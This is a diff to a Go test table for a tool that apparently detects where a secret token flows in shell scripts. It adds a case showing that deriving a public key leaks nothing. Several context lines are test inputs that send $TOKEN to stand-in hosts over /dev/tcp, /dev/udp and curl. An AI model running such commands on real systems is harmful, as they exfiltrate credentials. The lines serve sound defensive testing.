@@ -85,6 +85,7 @@ func TestFlowsOfScripts(t *testing.T) {
 		{"a connection of the shell", "echo $TOKEN > /dev/tcp/h.example/80\nexec 3<>/dev/udp/i.example/53\necho $TOKEN >&3", []string{"network by echo KEY host=h.example at $TOKEN", "network by echo KEY host=i.example at $TOKEN"}},
 		{"another descriptor", "exec 3>&1 4>out\necho $TOKEN >&3\necho $TOKEN >&4", []string{"log by echo KEY masked=yes at $TOKEN", "file by echo KEY path=out at $TOKEN"}},
 		{"a program that is not known", "echo $TOKEN | mytool\nA=$(mytool <<< $TOKEN)\ncurl -d $A https://h.example", []string{"log by mytool KEY +unknown masked=unknown possible at mytool", "argv by curl KEY +unknown possible at $A", "network by curl KEY +unknown host=h.example possible at $A"}},
+		{"what is public of a key", `echo "$TOKEN" | openssl pkey -pubout`, nil},
 		{"a cipher", `echo $TOKEN | openssl enc -aes-256-cbc -pass env:P -base64`, nil},
 		{"code that xargs fills", `echo $TOKEN | xargs -I{} sh -c 'echo {} | rev'`, []string{"argv by sh KEY at $TOKEN", "eval by sh -c KEY at $TOKEN", "log by rev KEY +reverse masked=no at rev"}},
 		{"what other languages read", "echo $TOKEN | python3 -c 'import sys; print(sys.stdin.read()[::-1])'\nruby -e 'puts ARGV[0].chars.join(\" \")' $TOKEN", []string{"log by print KEY +reverse masked=no likely at sys.stdin.read()", "argv by ruby KEY at $TOKEN", "log by print KEY +substring masked=no likely at ARGV[0]"}},
